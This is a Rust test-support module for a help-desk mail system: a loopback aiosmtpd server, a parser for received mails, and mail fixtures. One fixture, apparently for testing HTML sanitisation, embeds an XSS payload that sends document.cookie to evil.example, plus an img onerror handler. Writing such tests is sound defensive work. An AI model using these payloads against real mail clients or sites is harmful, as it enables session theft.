//! What the mail suites and the benchmark share: a real SMTP server on
//! loopback (aiosmtpd, from PyPI, delivering into a Maildir) and the mails it
//! received, read back with their headers.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// aiosmtpd on a loopback port, storing every mail it accepts in a Maildir.
/// The process ends when this is dropped.
#[derive(Debug)]
pub struct SmtpSink {
    child: Child,
    pub port: u16,
    maildir: PathBuf,
}

/// A free port on loopback, for a server a test starts.
pub fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port on loopback")
}

impl SmtpSink {
    /// Starts aiosmtpd on `port` (a free one when `None`), delivering into
    /// `maildir`. aiosmtpd makes the Maildir's folders only where nothing
    /// exists yet, so `maildir` should not exist, or be one it made before.
    pub fn start(maildir: &Path, port: Option<u16>) -> SmtpSink {
        let port = port.unwrap_or_else(free_port);
        let child = Command::new("python3")
            .args(["-m", "aiosmtpd", "-n", "-l"])
            .arg(format!("127.0.0.1:{port}"))
            .args(["-c", "aiosmtpd.handlers.Mailbox"])
            .arg(maildir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 -m aiosmtpd (pip install aiosmtpd; scripts/test.sh installs it)");
        let deadline = Instant::now() + Duration::from_secs(15);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                Instant::now() < deadline,
                "aiosmtpd did not start on port {port}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        SmtpSink {
            child,
            port,
            maildir: maildir.to_owned(),
        }
    }

    /// Stops the server, returning its port (to start one again on it).
    pub fn stop(mut self) -> u16 {
        self.end();
        self.port
    }

    fn end(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }

    /// How many mails arrived so far, without reading them.
    pub fn count(&self) -> usize {
        ["new", "cur"]
            .iter()
            .filter_map(|dir| std::fs::read_dir(self.maildir.join(dir)).ok())
            .map(|entries| entries.count())
            .sum()
    }

    /// Every mail received so far.
    pub fn mails(&self) -> Vec<ReceivedMail> {
        let mut mails = Vec::new();
        for dir in ["new", "cur"] {
            let Ok(entries) = std::fs::read_dir(self.maildir.join(dir)) else {
                continue;
            };
            for entry in entries.flatten() {
                let raw = std::fs::read_to_string(entry.path()).expect("a mail");
                mails.push(ReceivedMail::parse(&raw));
            }
        }
        mails
    }
}

impl Drop for SmtpSink {
    fn drop(&mut self) {
        self.end();
    }
}

/// A received mail: its headers (unfolded, names in lower case) and its raw
/// text.
#[derive(Debug)]
pub struct ReceivedMail {
    pub headers: Vec<(String, String)>,
    pub raw: String,
}

impl ReceivedMail {
    pub fn parse(raw: &str) -> ReceivedMail {
        let raw = raw.replace("\r\n", "\n");
        let head = raw.split("\n\n").next().unwrap_or("");
        let mut headers: Vec<(String, String)> = Vec::new();
        for line in head.lines() {
            if line.starts_with([' ', '\t']) {
                if let Some(last) = headers.last_mut() {
                    last.1.push(' ');
                    last.1.push_str(line.trim());
                }
            } else if let Some((name, value)) = line.split_once(':') {
                headers.push((name.trim().to_ascii_lowercase(), value.trim().to_owned()));
            }
        }
        ReceivedMail { headers, raw }
    }

    /// The first header called `name` (lower case), or "".
    pub fn header(&self, name: &str) -> &str {
        self.headers
            .iter()
            .find(|(n, _)| n == name)
            .map_or("", |(_, v)| v.as_str())
    }

    pub fn to(&self) -> &str {
        self.header("to")
    }

    /// The subject, decoded (RFC 2047) by a real mail parser.
    pub fn subject(&self) -> String {
        self.parsed()
            .and_then(|m| m.subject().map(str::to_owned))
            .unwrap_or_default()
    }

    /// The plain text part, decoded.
    pub fn text(&self) -> String {
        self.parsed()
            .and_then(|m| m.body_text(0).map(|t| t.into_owned()))
            .unwrap_or_default()
    }

    /// The HTML part, decoded.
    pub fn html(&self) -> String {
        self.parsed()
            .and_then(|m| m.body_html(0).map(|t| t.into_owned()))
            .unwrap_or_default()
    }

    fn parsed(&self) -> Option<mail_parser::Message<'_>> {
        mail_parser::MessageParser::default().parse(self.raw.as_bytes())
    }
}

/// A requester's mail with an HTML body that carries a script, a tracking
/// image with an `onerror`, and a PNG attached: what a mail client sends,
/// and what must arrive clean.
pub fn html_mail_with_image(message_id: &str) -> Vec<u8> {
    use base64::Engine;
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82";
    let png = base64::engine::general_purpose::STANDARD.encode(png);
    format!(
        "From: solicitante@sau.example\r\nTo: sau@sau.example\r\nSubject: Pantalla rota\r\n\
         Message-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"sep\"\r\n\r\n\
         --sep\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <p>La pantalla <b>parpadea</b>.</p><script>fetch('https://evil.example/'+document.cookie)</script>\
         <img src=\"https://tracker.example/pixel.gif\" onerror=\"alert(1)\">\r\n\
         --sep\r\nContent-Type: image/png; name=\"foto.png\"\r\n\
         Content-Disposition: attachment; filename=\"foto.png\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{png}\r\n--sep--\r\n"
    )
    .into_bytes()
}

/// Mail settings for the suites: sent through `url` as "Mesa de Ayuda
/// <sau@sau.example>", with links to `https://sau.example`.
pub fn mail_settings(url: impl Into<String>) -> crate::MailSettings {
    crate::MailSettings {
        smtp: crate::SmtpSettings {
            url: url.into(),
            ca_file: None,
        },
        from: "Mesa de Ayuda <sau@sau.example>".into(),
        base_url: "https://sau.example".into(),
    }
}
